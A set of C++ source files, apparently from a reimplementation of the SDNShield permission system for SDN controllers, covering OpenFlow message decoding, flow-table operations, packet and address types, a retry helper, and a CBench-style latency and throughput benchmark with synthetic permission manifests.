        while (reader.remaining() >= 88) {
          std::uint16_t entryLength = reader.u16();
          if (entryLength < 88) throw DecodeError("bad flow stats entry");
          reader.u8();  // table_id.
          reader.skip(1);
          FlowStatsEntry entry;
          entry.match = readMatch(reader);
          reader.u32();  // duration_sec.
          reader.u32();  // duration_nsec.
          entry.priority = reader.u16();
          reader.u16();  // idle.
          reader.u16();  // hard.
          reader.skip(6);
          entry.cookie = reader.u64();
          entry.packetCount = reader.u64();
          entry.byteCount = reader.u64();
          reader.skip(entryLength - 88);  // Actions, if any.
          reply.flows.push_back(std::move(entry));
        }
      } else if (statsType == kStatsPort) {
        reply.level = StatsLevel::kPort;
        while (reader.remaining() >= 104) {
          PortStats port;
          port.port = reader.u16();
          reader.skip(6);
          port.rxPackets = reader.u64();
          port.txPackets = reader.u64();
          port.rxBytes = reader.u64();
          port.txBytes = reader.u64();
          reader.skip(8 * 8);
          reply.ports.push_back(port);
        }
      } else if (statsType == kStatsTable) {
        reply.level = StatsLevel::kSwitch;
        reader.u8();  // table_id.
        reader.skip(3);
        reader.skip(32);  // name.
        reader.u32();     // wildcards.
        reader.u32();     // max_entries.
        reply.switchStats.activeFlows = reader.u32();
        reply.switchStats.lookupCount = reader.u64();
        reply.switchStats.matchedCount = reader.u64();
      } else {
        throw DecodeError("unsupported stats type");
      }
      return reply;
    }
  }
  throw DecodeError("unsupported message type " +
                    std::to_string(static_cast<int>(type)));
}

}  // namespace sdnshield::of::wire
