#include "of/flow_table.h"

#include <algorithm>
#include <sstream>

#include "obs/metrics.h"

namespace sdnshield::of {

namespace {

/// Fleet-wide flow-table telemetry (per-switch numbers stay in TableStats).
struct FlowTableMetrics {
  obs::Counter installs = obs::Registry::global().counter("flowtable.installs");
  obs::Counter evictions =
      obs::Registry::global().counter("flowtable.evictions");
  obs::Counter rejects = obs::Registry::global().counter("flowtable.rejects");
};

const FlowTableMetrics& flowTableMetrics() {
  static const FlowTableMetrics metrics;
  return metrics;
}

}  // namespace

std::string toString(FlowModCommand command) {
  switch (command) {
    case FlowModCommand::kAdd:
      return "add";
    case FlowModCommand::kModify:
      return "modify";
    case FlowModCommand::kModifyStrict:
      return "modify_strict";
    case FlowModCommand::kDelete:
      return "delete";
    case FlowModCommand::kDeleteStrict:
      return "delete_strict";
  }
  return "unknown";
}

std::string FlowMod::toString() const {
  std::ostringstream out;
  out << sdnshield::of::toString(command) << " prio=" << priority << " "
      << match.toString() << " actions=" << sdnshield::of::toString(actions);
  return out.str();
}

std::string FlowEntry::toString() const {
  std::ostringstream out;
  out << "prio=" << priority << " " << match.toString()
      << " actions=" << sdnshield::of::toString(actions) << " pkts=" << packetCount;
  return out.str();
}

bool FlowTable::apply(const FlowMod& mod) {
  switch (mod.command) {
    case FlowModCommand::kAdd: {
      // OF 1.0: add replaces an entry with identical match and priority.
      auto it = std::find_if(entries_.begin(), entries_.end(),
                             [&](const FlowEntry& e) {
                               return e.priority == mod.priority &&
                                      e.match == mod.match;
                             });
      if (it != entries_.end()) {
        it->actions = mod.actions;
        it->cookie = mod.cookie;
        it->idleTimeout = mod.idleTimeout;
        it->hardTimeout = mod.hardTimeout;
        return true;
      }
      if (entries_.size() >= maxEntries_) {
        flowTableMetrics().rejects.increment();
        return false;
      }
      add(mod);
      return true;
    }
    case FlowModCommand::kModify: {
      for (FlowEntry& e : entries_) {
        if (mod.match.subsumes(e.match)) {
          e.actions = mod.actions;
          e.cookie = mod.cookie;
        }
      }
      return true;
    }
    case FlowModCommand::kModifyStrict: {
      for (FlowEntry& e : entries_) {
        if (e.priority == mod.priority && e.match == mod.match) {
          e.actions = mod.actions;
          e.cookie = mod.cookie;
        }
      }
      return true;
    }
    case FlowModCommand::kDelete: {
      std::erase_if(entries_, [&](const FlowEntry& e) {
        return mod.match.subsumes(e.match);
      });
      return true;
    }
    case FlowModCommand::kDeleteStrict: {
      std::erase_if(entries_, [&](const FlowEntry& e) {
        return e.priority == mod.priority && e.match == mod.match;
      });
      return true;
    }
  }
  return false;
}

std::vector<bool> FlowTable::applyBatch(const std::vector<FlowMod>& mods) {
  std::vector<bool> results(mods.size(), false);
  std::size_t i = 0;
  while (i < mods.size()) {
    if (mods[i].command == FlowModCommand::kAdd) {
      std::size_t runEnd = i + 1;
      while (runEnd < mods.size() &&
             mods[runEnd].command == FlowModCommand::kAdd) {
        ++runEnd;
      }
      addRun(mods, i, runEnd, results);
      i = runEnd;
    } else {
      results[i] = apply(mods[i]);
      ++i;
    }
  }
  return results;
}

void FlowTable::addRun(const std::vector<FlowMod>& mods, std::size_t first,
                       std::size_t last, std::vector<bool>& results) {
  auto sameRule = [](const FlowEntry& e, const FlowMod& mod) {
    return e.priority == mod.priority && e.match == mod.match;
  };
  std::vector<FlowEntry> pending;  // Admitted new entries, in run order.
  for (std::size_t i = first; i < last; ++i) {
    const FlowMod& mod = mods[i];
    // OF 1.0: add replaces an entry with identical match and priority —
    // whether it was in the table before the batch or admitted earlier in
    // this run (the entry keeps its position, the fields come from the
    // latest add).
    auto it = std::find_if(entries_.begin(), entries_.end(),
                           [&](const FlowEntry& e) { return sameRule(e, mod); });
    if (it != entries_.end()) {
      it->actions = mod.actions;
      it->cookie = mod.cookie;
      it->idleTimeout = mod.idleTimeout;
      it->hardTimeout = mod.hardTimeout;
      results[i] = true;
      continue;
    }
    auto pit = std::find_if(pending.begin(), pending.end(),
                            [&](const FlowEntry& e) { return sameRule(e, mod); });
    if (pit != pending.end()) {
      pit->actions = mod.actions;
      pit->cookie = mod.cookie;
      pit->idleTimeout = mod.idleTimeout;
      pit->hardTimeout = mod.hardTimeout;
      results[i] = true;
      continue;
    }
    if (entries_.size() + pending.size() >= maxEntries_) {
      flowTableMetrics().rejects.increment();
      results[i] = false;
      continue;
    }
    FlowEntry entry;
    entry.match = mod.match;
    entry.priority = mod.priority;
    entry.actions = mod.actions;
    entry.cookie = mod.cookie;
    entry.idleTimeout = mod.idleTimeout;
    entry.hardTimeout = mod.hardTimeout;
    pending.push_back(std::move(entry));
    results[i] = true;
  }
  if (pending.empty()) return;
  flowTableMetrics().installs.add(pending.size());
  auto higherPriority = [](const FlowEntry& a, const FlowEntry& b) {
    return a.priority > b.priority;
  };
  // One sorted merge for the whole run instead of per-entry O(n) inserts.
  // stable_sort keeps run order among equal priorities; inplace_merge puts
  // existing entries before new ones at equal priority — both match the
  // sequential add semantics (earlier-installed wins on lookup).
  std::stable_sort(pending.begin(), pending.end(), higherPriority);
  std::size_t oldSize = entries_.size();
  entries_.reserve(oldSize + pending.size());
  for (FlowEntry& e : pending) entries_.push_back(std::move(e));
  std::inplace_merge(entries_.begin(),
                     entries_.begin() + static_cast<std::ptrdiff_t>(oldSize),
                     entries_.end(), higherPriority);
}

void FlowTable::add(const FlowMod& mod) {
  FlowEntry entry;
  entry.match = mod.match;
  entry.priority = mod.priority;
  entry.actions = mod.actions;
  entry.cookie = mod.cookie;
  entry.idleTimeout = mod.idleTimeout;
  entry.hardTimeout = mod.hardTimeout;
  // Keep entries sorted by priority descending; stable position for equal
  // priorities (earlier-installed wins on lookup, as in practice).
  auto pos = std::find_if(entries_.begin(), entries_.end(),
                          [&](const FlowEntry& e) {
                            return e.priority < entry.priority;
                          });
  entries_.insert(pos, std::move(entry));
  flowTableMetrics().installs.increment();
}

const FlowEntry* FlowTable::lookup(const HeaderFields& pkt,
                                   std::size_t packetBytes) {
  ++lookups_;
  for (FlowEntry& e : entries_) {
    if (e.match.matches(pkt)) {
      ++matches_;
      ++e.packetCount;
      e.byteCount += packetBytes;
      e.idleSeconds = 0;  // Traffic keeps the entry alive.
      return &e;
    }
  }
  return nullptr;
}

std::vector<FlowEntry> FlowTable::tick(std::uint32_t seconds) {
  std::vector<FlowEntry> expired;
  for (FlowEntry& e : entries_) {
    e.ageSeconds += seconds;
    e.idleSeconds += seconds;
  }
  auto isExpired = [](const FlowEntry& e) {
    return (e.idleTimeout != 0 && e.idleSeconds >= e.idleTimeout) ||
           (e.hardTimeout != 0 && e.ageSeconds >= e.hardTimeout);
  };
  for (const FlowEntry& e : entries_) {
    if (isExpired(e)) expired.push_back(e);
  }
  std::erase_if(entries_, isExpired);
  if (!expired.empty()) flowTableMetrics().evictions.add(expired.size());
  return expired;
}

const FlowEntry* FlowTable::peek(const HeaderFields& pkt) const {
  for (const FlowEntry& e : entries_) {
    if (e.match.matches(pkt)) return &e;
  }
  return nullptr;
}

std::vector<FlowEntry> FlowTable::select(const FlowMatch& pattern) const {
  std::vector<FlowEntry> out;
  for (const FlowEntry& e : entries_) {
    if (pattern.subsumes(e.match)) out.push_back(e);
  }
  return out;
}

std::vector<FlowEntry> FlowTable::selectByCookie(std::uint64_t cookie) const {
  std::vector<FlowEntry> out;
  for (const FlowEntry& e : entries_) {
    if (e.cookie == cookie) out.push_back(e);
  }
  return out;
}

TableStats FlowTable::stats() const {
  return TableStats{.activeEntries = entries_.size(),
                    .lookupCount = lookups_,
                    .matchedCount = matches_};
}

}  // namespace sdnshield::of
