#include "of/types.h"

#include <cstdio>
#include <stdexcept>

namespace sdnshield::of {

MacAddress MacAddress::parse(const std::string& text) {
  std::array<unsigned, 6> parts{};
  char extra = 0;
  int got = std::sscanf(text.c_str(), "%x:%x:%x:%x:%x:%x%c", &parts[0],
                        &parts[1], &parts[2], &parts[3], &parts[4], &parts[5],
                        &extra);
  if (got != 6) {
    throw std::invalid_argument("bad MAC address: " + text);
  }
  std::array<std::uint8_t, 6> octets{};
  for (std::size_t i = 0; i < 6; ++i) {
    if (parts[i] > 0xff) {
      throw std::invalid_argument("bad MAC address octet: " + text);
    }
    octets[i] = static_cast<std::uint8_t>(parts[i]);
  }
  return MacAddress{octets};
}

std::string MacAddress::toString() const {
  char buf[18];
  std::snprintf(buf, sizeof(buf), "%02x:%02x:%02x:%02x:%02x:%02x", octets_[0],
                octets_[1], octets_[2], octets_[3], octets_[4], octets_[5]);
  return buf;
}

Ipv4Address Ipv4Address::parse(const std::string& text) {
  std::array<unsigned, 4> parts{};
  char extra = 0;
  int got = std::sscanf(text.c_str(), "%u.%u.%u.%u%c", &parts[0], &parts[1],
                        &parts[2], &parts[3], &extra);
  if (got != 4) {
    throw std::invalid_argument("bad IPv4 address: " + text);
  }
  for (unsigned part : parts) {
    if (part > 255) {
      throw std::invalid_argument("bad IPv4 address octet: " + text);
    }
  }
  return Ipv4Address{static_cast<std::uint8_t>(parts[0]),
                     static_cast<std::uint8_t>(parts[1]),
                     static_cast<std::uint8_t>(parts[2]),
                     static_cast<std::uint8_t>(parts[3])};
}

std::string Ipv4Address::toString() const {
  char buf[16];
  std::snprintf(buf, sizeof(buf), "%u.%u.%u.%u", (value_ >> 24) & 0xff,
                (value_ >> 16) & 0xff, (value_ >> 8) & 0xff, value_ & 0xff);
  return buf;
}

std::string toString(EtherType type) {
  switch (type) {
    case EtherType::kIpv4:
      return "ipv4";
    case EtherType::kArp:
      return "arp";
    case EtherType::kVlan:
      return "vlan";
  }
  return "ethertype(unknown)";
}

std::string toString(IpProto proto) {
  switch (proto) {
    case IpProto::kIcmp:
      return "icmp";
    case IpProto::kTcp:
      return "tcp";
    case IpProto::kUdp:
      return "udp";
  }
  return "ipproto(unknown)";
}

}  // namespace sdnshield::of
