// Flow actions: what a rule (or a packet-out) does with a packet. A small
// OF 1.0-style action set, rich enough for the paper's action filters
// (DROP / FORWARD / MODIFY field) and the dynamic-flow-tunneling attack
// (header rewriting).
#pragma once

#include <cstdint>
#include <string>
#include <variant>
#include <vector>

#include "of/match.h"
#include "of/types.h"

namespace sdnshield::of {

/// Send the packet out a port (possibly kFlood or kController).
struct OutputAction {
  PortNo port = ports::kNone;
  friend bool operator==(const OutputAction&, const OutputAction&) = default;
};

/// Rewrite a header field before subsequent actions.
struct SetFieldAction {
  MatchField field = MatchField::kIpDst;
  // Exactly one of the following is meaningful, depending on `field`.
  std::uint64_t intValue = 0;  ///< ports, ethType, vlan, ipProto, tp ports.
  MacAddress macValue;         ///< for kEthSrc / kEthDst.
  Ipv4Address ipValue;         ///< for kIpSrc / kIpDst.
  friend bool operator==(const SetFieldAction&,
                         const SetFieldAction&) = default;
};

/// Explicitly drop (also implied by an empty action list on a table hit).
struct DropAction {
  friend bool operator==(const DropAction&, const DropAction&) = default;
};

using Action = std::variant<OutputAction, SetFieldAction, DropAction>;
using ActionList = std::vector<Action>;

std::string toString(const Action& action);
std::string toString(const ActionList& actions);

/// True when the list contains any output (forwarding) action.
bool hasOutput(const ActionList& actions);

/// True when the list rewrites any header field.
bool modifiesHeaders(const ActionList& actions);

/// True when the list rewrites the given field.
bool modifiesField(const ActionList& actions, MatchField field);

/// True when the list is a drop (empty, or contains DropAction only).
bool isDrop(const ActionList& actions);

}  // namespace sdnshield::of
