// A small packet model with real wire (de)serialisation for Ethernet, ARP,
// IPv4, TCP and UDP — enough for the simulated data plane to carry the
// paper's workloads (ARP learning, HTTP sessions, RST injection, header
// rewriting for dynamic-flow tunnels).
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "of/match.h"
#include "of/types.h"

namespace sdnshield::of {

using Bytes = std::vector<std::uint8_t>;

struct EthernetHeader {
  MacAddress dst;
  MacAddress src;
  std::uint16_t etherType = 0;
  friend bool operator==(const EthernetHeader&,
                         const EthernetHeader&) = default;
};

struct ArpHeader {
  std::uint16_t op = 1;  ///< 1 = request, 2 = reply.
  MacAddress senderMac;
  Ipv4Address senderIp;
  MacAddress targetMac;
  Ipv4Address targetIp;
  friend bool operator==(const ArpHeader&, const ArpHeader&) = default;
};

struct Ipv4Header {
  Ipv4Address src;
  Ipv4Address dst;
  std::uint8_t proto = 0;
  std::uint8_t ttl = 64;
  friend bool operator==(const Ipv4Header&, const Ipv4Header&) = default;
};

namespace tcpflags {
inline constexpr std::uint8_t kFin = 0x01;
inline constexpr std::uint8_t kSyn = 0x02;
inline constexpr std::uint8_t kRst = 0x04;
inline constexpr std::uint8_t kPsh = 0x08;
inline constexpr std::uint8_t kAck = 0x10;
}  // namespace tcpflags

struct TcpHeader {
  std::uint16_t srcPort = 0;
  std::uint16_t dstPort = 0;
  std::uint32_t seq = 0;
  std::uint32_t ack = 0;
  std::uint8_t flags = 0;
  friend bool operator==(const TcpHeader&, const TcpHeader&) = default;
};

struct UdpHeader {
  std::uint16_t srcPort = 0;
  std::uint16_t dstPort = 0;
  friend bool operator==(const UdpHeader&, const UdpHeader&) = default;
};

/// Parsed packet. Layers above Ethernet are optional; at most one of
/// arp / ipv4 is set, and at most one of tcp / udp (only when ipv4 is set).
struct Packet {
  EthernetHeader eth;
  std::optional<ArpHeader> arp;
  std::optional<Ipv4Header> ipv4;
  std::optional<TcpHeader> tcp;
  std::optional<UdpHeader> udp;
  Bytes payload;

  friend bool operator==(const Packet&, const Packet&) = default;

  /// Serialises to wire bytes.
  Bytes serialize() const;

  /// Parses from wire bytes. Throws std::invalid_argument on truncation.
  static Packet parse(const Bytes& wire);

  /// Extracts the match-relevant header fields; @p inPort is supplied by the
  /// receiving switch.
  HeaderFields fields(PortNo inPort) const;

  std::string toString() const;

  // --- convenience constructors used by apps and tests -------------------
  static Packet makeArpRequest(MacAddress senderMac, Ipv4Address senderIp,
                               Ipv4Address targetIp);
  static Packet makeArpReply(MacAddress senderMac, Ipv4Address senderIp,
                             MacAddress targetMac, Ipv4Address targetIp);
  static Packet makeTcp(MacAddress srcMac, MacAddress dstMac, Ipv4Address src,
                        Ipv4Address dst, std::uint16_t srcPort,
                        std::uint16_t dstPort, std::uint8_t flags,
                        Bytes payload = {});
  static Packet makeUdp(MacAddress srcMac, MacAddress dstMac, Ipv4Address src,
                        Ipv4Address dst, std::uint16_t srcPort,
                        std::uint16_t dstPort, Bytes payload = {});
};

}  // namespace sdnshield::of
