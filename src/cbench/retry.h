// Bounded retry-with-backoff for transient northbound failures. Under
// campaign load the controller legitimately sheds work (ApiErrc::kQueueFull
// when an app's in-flight window or the deputy queue saturates,
// kDeadlineExceeded when a deputy misses its deadline); a load generator
// that treats shed work like a denial can't distinguish "backpressure
// working as designed" from "wrongly denied". callWithRetry() retries only
// the transient codes — permission denials, quarantines and hard errors are
// returned immediately — and counts every retry in obs so a campaign
// scorecard can report how much shedding occurred.
#pragma once

#include <chrono>
#include <functional>

#include "controller/api.h"

namespace sdnshield::cbench {

struct RetryOptions {
  /// Additional attempts after the first (0 = plain single call).
  std::size_t maxRetries = 3;
  /// Sleep before the first retry; doubles (multiplier) per further retry.
  std::chrono::milliseconds initialBackoff{1};
  double backoffMultiplier = 2.0;
};

/// True for the transient codes worth retrying: kQueueFull and
/// kDeadlineExceeded. Everything else (denials, quarantine, pool stopped,
/// bad arguments) is a definitive answer.
bool isTransient(ctrl::ApiErrc code);

/// Invokes @p call, retrying transient failures up to
/// options.maxRetries times with exponential backoff. Returns the first
/// success or the last failure. obs counters:
///   cbench.retry.attempts   — retries performed (not first attempts)
///   cbench.retry.recovered  — calls that succeeded after >=1 retry
///   cbench.retry.exhausted  — calls still transient after the budget
ctrl::ApiResult callWithRetry(const std::function<ctrl::ApiResult()>& call,
                              const RetryOptions& options = {});

}  // namespace sdnshield::cbench
