#include "cbench/generator.h"

#include <algorithm>
#include <atomic>
#include <stdexcept>
#include <thread>

#include "obs/metrics.h"

namespace sdnshield::cbench {

namespace {

const obs::Counter g_roundRetries =
    obs::Registry::global().counter("cbench.retry.rounds");

of::Packet broadcastArp(const sim::SimHost& host) {
  return of::Packet::makeArpRequest(host.mac(), host.ip(),
                                    of::Ipv4Address(10, 255, 255, 254));
}

}  // namespace

void Generator::setup() {
  std::vector<std::shared_ptr<sim::SimSwitch>> switches = network_.switches();
  std::uint32_t probeIndex = 1;
  for (const auto& sw : switches) {
    Probe probe;
    probe.dpid = sw->dpid();
    for (const auto& host : network_.hosts()) {
      if (host->descriptor().dpid == probe.dpid &&
          host->descriptor().port == 1) {
        probe.targetHost = host;
        break;
      }
    }
    if (!probe.targetHost) continue;  // Switch without a measurable host.
    probe.probeHost = network_.addHost(
        probe.dpid, 4,
        of::MacAddress::fromUint64(0x0400000000ULL + probeIndex),
        of::Ipv4Address(10, 9, static_cast<std::uint8_t>(probeIndex >> 8),
                        static_cast<std::uint8_t>(probeIndex & 0xff)));
    ++probeIndex;
    probes_.push_back(std::move(probe));
  }
  if (probes_.empty()) {
    throw std::runtime_error("Generator: no (switch, host) pairs to probe");
  }
  // Warm the controller's learning tables: every endpoint announces itself.
  for (const Probe& probe : probes_) {
    probe.targetHost->send(broadcastArp(*probe.targetHost));
    probe.probeHost->send(broadcastArp(*probe.probeHost));
  }
  // Prime each switch (and absorb async warmup in the shielded deployment).
  for (const Probe& probe : probes_) {
    measureRound(probe.dpid, std::chrono::milliseconds(1000));
    measureRound(probe.dpid, std::chrono::milliseconds(1000));
  }
}

std::optional<std::chrono::nanoseconds> Generator::measureRound(
    of::DatapathId dpid, std::chrono::milliseconds timeout) {
  const Probe* probe = nullptr;
  for (const Probe& candidate : probes_) {
    if (candidate.dpid == dpid) {
      probe = &candidate;
      break;
    }
  }
  if (probe == nullptr) return std::nullopt;

  // Simulate the destination rule idling out, so the next packet is a
  // fresh flow arrival (miss -> packet-in -> flow-mod + packet-out). This
  // is switch-local (no control channel involved).
  auto sw = network_.switchAt(dpid);
  of::FlowMatch expired;
  expired.ethDst = probe->targetHost->mac();
  sw->expireFlows(expired);

  std::size_t base = probe->targetHost->receivedCount();
  of::Packet packet = of::Packet::makeTcp(
      probe->probeHost->mac(), probe->targetHost->mac(),
      probe->probeHost->ip(), probe->targetHost->ip(), 12345, 80,
      of::tcpflags::kSyn);
  auto start = std::chrono::steady_clock::now();
  probe->probeHost->send(packet);
  if (!probe->targetHost->waitForPackets(base + 1, timeout)) {
    return std::nullopt;
  }
  return std::chrono::steady_clock::now() - start;
}

std::optional<std::chrono::nanoseconds> Generator::measureRoundRetrying(
    of::DatapathId dpid, std::chrono::milliseconds timeout) {
  auto sample = measureRound(dpid, timeout);
  if (sample) return sample;
  auto backoff = std::chrono::duration<double, std::milli>(
      roundRetry_.initialBackoff.count());
  for (std::size_t attempt = 0; attempt < roundRetry_.maxRetries; ++attempt) {
    if (backoff.count() > 0) std::this_thread::sleep_for(backoff);
    backoff *= roundRetry_.backoffMultiplier;
    g_roundRetries.increment();
    sample = measureRound(dpid, timeout);
    if (sample) return sample;
  }
  return std::nullopt;
}

LatencyStats Generator::runLatency(std::size_t rounds,
                                   std::chrono::milliseconds timeout) {
  std::vector<double> samplesUs;
  samplesUs.reserve(rounds);
  LatencyStats stats;
  for (std::size_t i = 0; i < rounds; ++i) {
    const Probe& probe = probes_[i % probes_.size()];
    auto sample = measureRoundRetrying(probe.dpid, timeout);
    if (!sample) {
      ++stats.timeouts;
      continue;
    }
    samplesUs.push_back(
        std::chrono::duration<double, std::micro>(*sample).count());
  }
  if (samplesUs.empty()) return stats;
  std::sort(samplesUs.begin(), samplesUs.end());
  auto percentile = [&](double p) {
    std::size_t index = static_cast<std::size_t>(
        p * static_cast<double>(samplesUs.size() - 1));
    return samplesUs[index];
  };
  stats.samples = samplesUs.size();
  stats.medianUs = percentile(0.5);
  stats.p10Us = percentile(0.1);
  stats.p90Us = percentile(0.9);
  double sum = 0;
  for (double v : samplesUs) sum += v;
  stats.meanUs = sum / static_cast<double>(samplesUs.size());
  return stats;
}

std::size_t Generator::measureBurst(of::DatapathId dpid, std::size_t window,
                                    std::chrono::milliseconds timeout) {
  const Probe* probe = nullptr;
  for (const Probe& candidate : probes_) {
    if (candidate.dpid == dpid) {
      probe = &candidate;
      break;
    }
  }
  if (probe == nullptr || window == 0) return 0;

  auto sw = network_.switchAt(dpid);
  of::FlowMatch expired;
  expired.ethDst = probe->targetHost->mac();
  std::size_t base = probe->targetHost->receivedCount();
  of::Packet packet = of::Packet::makeTcp(
      probe->probeHost->mac(), probe->targetHost->mac(),
      probe->probeHost->ip(), probe->targetHost->ip(), 12345, 80,
      of::tcpflags::kSyn);
  // Each send is preceded by an expiry so every packet in the burst is a
  // fresh flow arrival (miss -> packet-in -> flow-mod + packet-out), never
  // a data-plane fast-path hit on the rule the previous round installed.
  for (std::size_t i = 0; i < window; ++i) {
    sw->expireFlows(expired);
    probe->probeHost->send(packet);
  }
  if (probe->targetHost->waitForPackets(base + window, timeout)) return window;
  std::size_t arrived = probe->targetHost->receivedCount();
  return arrived > base ? arrived - base : 0;
}

ThroughputStats Generator::runThroughput(std::chrono::milliseconds duration,
                                         std::size_t window) {
  std::atomic<std::uint64_t> responses{0};
  auto deadline = std::chrono::steady_clock::now() + duration;
  std::vector<std::thread> drivers;
  drivers.reserve(probes_.size());
  for (const Probe& probe : probes_) {
    drivers.emplace_back([this, &probe, &responses, deadline, window] {
      while (std::chrono::steady_clock::now() < deadline) {
        if (window <= 1) {
          if (measureRoundRetrying(probe.dpid, roundTimeout_)) {
            responses.fetch_add(1, std::memory_order_relaxed);
          }
        } else {
          responses.fetch_add(measureBurst(probe.dpid, window, roundTimeout_),
                              std::memory_order_relaxed);
        }
      }
    });
  }
  auto start = std::chrono::steady_clock::now();
  for (std::thread& driver : drivers) driver.join();
  double elapsed =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start)
          .count();
  ThroughputStats stats;
  stats.totalResponses = responses.load();
  stats.durationSec = elapsed;
  stats.responsesPerSec =
      elapsed > 0 ? static_cast<double>(stats.totalResponses) / elapsed : 0;
  return stats;
}

// --- Figure 5 workload ------------------------------------------------------------

namespace {

using perm::FilterExpr;
using perm::FilterExprPtr;
using perm::FilterPtr;

/// One disjunctive clause: an IP_DST /16 window plus always-satisfiable
/// bounds, sized to reach the requested leaf count.
FilterExprPtr makeClause(std::uint8_t subnet, std::size_t leaves) {
  FilterExprPtr expr = FilterExpr::singleton(
      FilterPtr{new perm::FieldPredicateFilter(
          of::MatchField::kIpDst,
          of::MaskedIpv4{of::Ipv4Address(10, subnet, 0, 0),
                         of::Ipv4Address::prefixMask(16)})});
  const FilterPtr extras[] = {
      FilterPtr{new perm::PriorityFilter(true, 1000)},
      FilterPtr{new perm::OwnershipFilter(false)},
      FilterPtr{new perm::TableSizeFilter(1u << 20)},
      FilterPtr{new perm::PriorityFilter(false, 0)},
  };
  for (std::size_t i = 1; i < leaves; ++i) {
    expr = FilterExpr::conj(expr,
                            FilterExpr::singleton(extras[(i - 1) % 4]));
  }
  return expr;
}

/// Builds a token filter with ~targetLeaves singleton filters (10-20 per
/// the paper), as a disjunction of 3-4-leaf conjunctive clauses. Larger
/// manifests carry denser filters, which is what makes per-check cost — and
/// thus Figure 5's throughput — depend on manifest complexity.
FilterExprPtr makeTokenFilter(std::mt19937_64& rng, std::size_t targetLeaves) {
  // Split the leaf budget into 3-4-leaf clauses.
  std::vector<std::size_t> clauseSizes;
  std::size_t remaining = targetLeaves;
  while (remaining > 0) {
    std::size_t leaves = 3 + rng() % 2;
    if (leaves > remaining || remaining - leaves == 1 ||
        remaining - leaves == 2) {
      leaves = remaining <= 5 ? remaining : remaining - 3;
    }
    clauseSizes.push_back(leaves);
    remaining -= leaves;
  }
  // The trace's in-range destinations live in 10.{0,1,2}/16; those subnets
  // go to the *last* clauses, so an allowed call scans the whole
  // disjunction — per-check cost grows with manifest complexity, which is
  // what bends Figure 5's throughput curve.
  FilterExprPtr expr;
  for (std::size_t c = 0; c < clauseSizes.size(); ++c) {
    std::size_t fromEnd = clauseSizes.size() - 1 - c;
    std::uint8_t subnet = fromEnd < 3 ? static_cast<std::uint8_t>(2 - fromEnd)
                                      : static_cast<std::uint8_t>(100 + c);
    FilterExprPtr clause = makeClause(subnet, clauseSizes[c]);
    expr = expr ? FilterExpr::disj(expr, clause) : clause;
  }
  return expr;
}

}  // namespace

perm::PermissionSet makeSyntheticManifest(std::size_t tokenCount,
                                          std::uint64_t seed,
                                          perm::Token primary) {
  std::mt19937_64 rng(seed);
  perm::PermissionSet manifest;
  // The primary (benched) token comes first, then the other benched call
  // type, so the small manifest grants exactly the call under measurement.
  std::vector<perm::Token> order{primary};
  perm::Token secondary = primary == perm::Token::kInsertFlow
                              ? perm::Token::kReadStatistics
                              : perm::Token::kInsertFlow;
  order.push_back(secondary);
  for (perm::Token token : perm::kAllTokens) {
    if (token != primary && token != secondary) {
      order.push_back(token);
    }
  }
  // Filter density scales with manifest size within the paper's 10-20
  // band: small=10, medium≈14, large=20 filters per token.
  std::size_t targetLeaves = 10 + (tokenCount - 1) * 10 / 14;
  if (targetLeaves > 20) targetLeaves = 20;
  for (std::size_t i = 0; i < tokenCount && i < order.size(); ++i) {
    manifest.grant(order[i], makeTokenFilter(rng, targetLeaves));
  }
  return manifest;
}

std::vector<perm::ApiCall> makeSyntheticTrace(
    const perm::PermissionSet& manifest, std::size_t length,
    double violationRatio, std::uint64_t seed) {
  (void)manifest;  // The trace shape matches makeSyntheticManifest's clauses.
  std::mt19937_64 rng(seed);
  std::uniform_real_distribution<double> uniform(0.0, 1.0);
  std::vector<perm::ApiCall> trace;
  trace.reserve(length);
  for (std::size_t i = 0; i < length; ++i) {
    bool violate = uniform(rng) < violationRatio;
    bool insert = (i % 2) == 0;
    // In-range destinations live in 10.{0..2}.x.x (always covered by the
    // generated clauses); violations target 192.168.x.x.
    of::Ipv4Address dst =
        violate ? of::Ipv4Address(192, 168, static_cast<std::uint8_t>(rng()),
                                  static_cast<std::uint8_t>(rng()))
                : of::Ipv4Address(10, static_cast<std::uint8_t>(rng() % 3),
                                  static_cast<std::uint8_t>(rng()),
                                  static_cast<std::uint8_t>(rng()));
    if (insert) {
      of::FlowMod mod;
      mod.command = of::FlowModCommand::kAdd;
      mod.match.ethType = static_cast<std::uint16_t>(of::EtherType::kIpv4);
      mod.match.ipDst = of::MaskedIpv4{dst};
      mod.priority = static_cast<std::uint16_t>(rng() % 1000);
      mod.actions.push_back(of::OutputAction{1});
      perm::ApiCall call = perm::ApiCall::insertFlow(1, 1, mod);
      call.ruleCountAfter = 16;
      trace.push_back(std::move(call));
    } else {
      of::StatsRequest request;
      request.level = of::StatsLevel::kFlow;
      request.dpid = 1;
      request.match.ipDst = of::MaskedIpv4{dst};
      perm::ApiCall call = perm::ApiCall::readStatistics(1, request);
      trace.push_back(std::move(call));
    }
  }
  return trace;
}

}  // namespace sdnshield::cbench
