#include "cbench/retry.h"

#include <thread>

#include "obs/metrics.h"

namespace sdnshield::cbench {

namespace {
const obs::Counter g_retryAttempts =
    obs::Registry::global().counter("cbench.retry.attempts");
const obs::Counter g_retryRecovered =
    obs::Registry::global().counter("cbench.retry.recovered");
const obs::Counter g_retryExhausted =
    obs::Registry::global().counter("cbench.retry.exhausted");
}  // namespace

bool isTransient(ctrl::ApiErrc code) {
  return code == ctrl::ApiErrc::kQueueFull ||
         code == ctrl::ApiErrc::kDeadlineExceeded;
}

ctrl::ApiResult callWithRetry(const std::function<ctrl::ApiResult()>& call,
                              const RetryOptions& options) {
  ctrl::ApiResult result = call();
  if (result.ok() || !isTransient(result.code())) return result;
  auto backoff = std::chrono::duration<double, std::milli>(
      options.initialBackoff.count());
  for (std::size_t attempt = 0; attempt < options.maxRetries; ++attempt) {
    if (backoff.count() > 0) std::this_thread::sleep_for(backoff);
    backoff *= options.backoffMultiplier;
    g_retryAttempts.increment();
    result = call();
    if (result.ok()) {
      g_retryRecovered.increment();
      return result;
    }
    if (!isTransient(result.code())) return result;
  }
  g_retryExhausted.increment();
  return result;
}

}  // namespace sdnshield::cbench
