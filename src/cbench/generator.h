// CBench-style OF message generator (paper §IX-A): drives the simulated
// switches with packet-in-producing workloads and measures control-plane
// response latency (latency mode: one outstanding request per switch) and
// throughput (pressure mode: back-to-back rounds on every switch in
// parallel). Also provides the Figure-5 workload: synthetic manifests of
// small/medium/large complexity and an API-call trace with a fixed
